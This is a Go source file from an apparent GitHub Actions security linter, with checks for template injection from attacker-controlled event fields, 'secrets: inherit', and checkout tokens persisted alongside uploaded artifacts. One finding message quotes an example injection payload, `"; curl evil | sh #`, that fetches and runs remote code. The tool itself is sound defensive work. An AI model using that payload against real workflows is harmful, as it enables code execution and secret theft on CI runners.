package checks

import (
	"context"
	"fmt"
	"regexp"
	"strings"

	"github.com/hardener/hardener/internal/repo"
	"github.com/hardener/hardener/internal/workflow"
)

// attackerFields end context paths under github.event that anyone who can
// open an issue, comment or fork can set to arbitrary text.
var attackerFields = []string{
	".title", ".body", ".message", ".head_ref", ".head_branch", ".label", ".page_name",
	".author.name", ".author.email", ".committer.name", ".committer.email",
	".head.ref", ".head.label", ".head.repo.default_branch", ".head.repo.description",
	".head.repo.homepage", ".head.repo.name", ".head.repo.full_name", ".description",
}

// safeEvent are github.event fields that are numbers, SHAs, URLs built by
// GitHub or otherwise not free text.
var safeEventSuffixes = []string{
	".number", ".id", ".sha", ".head_sha", ".base_sha", ".node_id", ".html_url", ".url",
	".state", ".draft", ".merged", ".action", ".created_at", ".updated_at", ".private",
	".fork", ".size", ".before", ".after", ".forced", ".deleted", ".created",
	".user.login", ".sender.login", ".login", ".type", ".run_id", ".run_number",
	".conclusion", ".status", ".event", ".run_attempt", ".default_branch", ".full_name",
	".owner", ".name", ".author_association",
}

// classify returns the severity of expanding a context path into a script,
// and false for contexts that are known to be safe.
func classify(c string) (Severity, bool) {
	switch {
	case c == "github.head_ref":
		return High, true
	case strings.HasPrefix(c, "github.event."):
		for _, s := range attackerFields {
			if strings.HasSuffix(c, s) {
				// .name and .full_name of the base repository are safe; of
				// the head repository (a fork) they are not.
				return High, true
			}
		}
		for _, s := range safeEventSuffixes {
			if strings.HasSuffix(c, s) {
				return 0, false
			}
		}
		if c == "github.event" || strings.HasSuffix(c, ".*") {
			return Medium, true // a whole object serialised: contains text fields
		}
		return Medium, true
	case strings.HasPrefix(c, "inputs."), strings.HasPrefix(c, "github.event.inputs."),
		strings.HasPrefix(c, "steps.") && strings.Contains(c, ".outputs."),
		strings.HasPrefix(c, "needs.") && strings.Contains(c, ".outputs."),
		strings.HasPrefix(c, "env."):
		return Info, true
	}
	return 0, false
}

type templateInjection struct{}

func (templateInjection) ID() string { return RuleTemplateInjection }

func (templateInjection) Run(_ context.Context, snap *repo.Snapshot) ([]Finding, error) {
	var out []Finding
	for _, f := range Load(snap).Files {
		for _, js := range f.Steps() {
			s := js.Step
			if s.Run != nil {
				out = append(out, injections(f, s.Run, "run: script")...)
			}
			if s.Uses != nil {
				u, ok := ParseUses(s.Uses.Value)
				if ok && strings.EqualFold(u.Name(), "actions/github-script") {
					if script := s.WithValue("script"); script != nil {
						out = append(out, injections(f, script, "github-script script")...)
					}
				}
			}
		}
	}
	return out, nil
}

func injections(f *workflow.File, v *workflow.Value, where string) []Finding {
	exprs := workflow.Expressions(v.Value)
	if len(exprs) == 0 {
		return nil
	}
	offs := workflow.ExprPositions(f.Source.Src, v)
	var out []Finding
	for i, e := range exprs {
		var worst Severity = -1
		var which string
		for _, c := range e.Contexts {
			if sev, bad := classify(c); bad && sev > worst {
				worst, which = sev, c
			}
		}
		if worst < 0 {
			continue
		}
		conf := ConfidenceHigh
		msg := fmt.Sprintf("%s is expanded into a %s: its text becomes code; pass it through env: and use the variable", which, where)
		switch worst {
		case High:
			msg = fmt.Sprintf("%s is attacker-controlled and expanded into a %s: text like `\"; curl evil | sh #` runs as code; "+
				"pass it through env: and use the variable", which, where)
		case Medium:
			conf = ConfidenceMedium
		default:
			conf = ConfidenceLow
			msg = fmt.Sprintf("%s is expanded into a %s; if it can carry untrusted text it becomes code: pass it through env: instead", which, where)
		}
		out = append(out, Finding{Rule: RuleTemplateInjection, Severity: worst, Confidence: conf, Message: msg,
			Primary: locAt(f, offs[i], offs[i]+len(e.Raw)), Subject: which})
	}
	return out
}

type secretsInherit struct{}

func (secretsInherit) ID() string { return RuleSecretsInherit }

func (secretsInherit) Run(_ context.Context, snap *repo.Snapshot) ([]Finding, error) {
	var out []Finding
	for _, f := range Load(snap).Files {
		if f.Workflow == nil {
			continue
		}
		for _, j := range f.Workflow.Jobs {
			if j.SecretsInherit == nil || j.Uses == nil {
				continue
			}
			sev, msg := Medium, fmt.Sprintf("job %q passes every secret of this repository to %s; pass only the secrets it needs", j.ID, j.Uses.Value)
			if strings.HasPrefix(j.Uses.Value, "./") {
				sev = Low
			}
			out = append(out, Finding{Rule: RuleSecretsInherit, Severity: sev, Confidence: ConfidenceHigh, Message: msg,
				Primary: loc(f, j.SecretsInherit), Subject: j.Uses.Value})
		}
	}
	return out, nil
}

type artipacked struct{}

func (artipacked) ID() string { return RuleArtipacked }

func (artipacked) Run(_ context.Context, snap *repo.Snapshot) ([]Finding, error) {
	var out []Finding
	for _, f := range Load(snap).Files {
		if f.Workflow == nil {
			continue
		}
		for _, j := range f.Workflow.Jobs {
			var uploads *workflow.Step
			pushes := false
			for _, s := range j.Steps {
				if s.Uses != nil {
					if u, ok := ParseUses(s.Uses.Value); ok && (strings.EqualFold(u.Name(), "actions/upload-artifact") ||
						strings.EqualFold(u.Name(), "actions/upload-pages-artifact")) && uploads == nil {
						uploads = s
					}
				}
				if s.Run != nil && (strings.Contains(s.Run.Value, "git push") || strings.Contains(s.Run.Value, "git commit")) {
					pushes = true
				}
			}
			if uploads == nil || pushes {
				continue
			}
			for _, s := range j.Steps {
				if s.Uses == nil {
					continue
				}
				u, ok := ParseUses(s.Uses.Value)
				if !ok || !strings.EqualFold(u.Name(), "actions/checkout") || checkoutV6(u.Ref, s.Uses, f) {
					continue
				}
				if pc := s.WithValue("persist-credentials"); pc != nil && strings.EqualFold(pc.Value, "false") {
					continue
				}
				out = append(out, Finding{Rule: RuleArtipacked, Severity: Medium, Confidence: ConfidenceMedium,
					Message: fmt.Sprintf("job %q keeps the checkout's token in .git/config and uploads an artifact: set "+
						"persist-credentials: false on the checkout", j.ID),
					Primary: loc(f, s.Uses), Related: []Location{relatedStep(f, uploads, "uploads the workspace")}})
			}
		}
	}
	return out, nil
}

// checkoutV6 reports whether a checkout is v6 or later (which keeps the
// credentials out of the workspace), from its tag or version comment.
func checkoutV6(ref string, v *workflow.Value, f *workflow.File) bool {
	version := ref
	if IsSHA(ref) {
		version = versionComment(f, v)
	}
	version = strings.TrimPrefix(version, "v")
	major, _, _ := strings.Cut(version, ".")
	n := 0
	for _, c := range major {
		if c < '0' || c > '9' {
			return false
		}
		n = n*10 + int(c-'0')
	}
	return major != "" && n >= 6
}

// versionComment returns the version named in the comment after a value
// (`# v4.2.2`, `# tag=v4`), or "".
func versionComment(f *workflow.File, v *workflow.Value) string {
	if v.End < 0 {
		return ""
	}
	line, _ := f.Source.Position(v.End)
	rest := string(f.Source.Src[v.End:f.Source.LineEnd(line)])
	_, c, ok := strings.Cut(rest, "#")
	if !ok {
		return ""
	}
	c = strings.TrimSpace(c)
	c = strings.TrimPrefix(c, "tag=")
	c = strings.TrimPrefix(c, "tag:")
	c, _, _ = strings.Cut(c, " ")
	c = strings.TrimSpace(c)
	if !versionLike.MatchString(c) {
		return "" // a human comment, not a version
	}
	return c
}

var versionLike = regexp.MustCompile(`^v?\d+(\.\d+)*([-+][0-9A-Za-z.-]+)?$`)
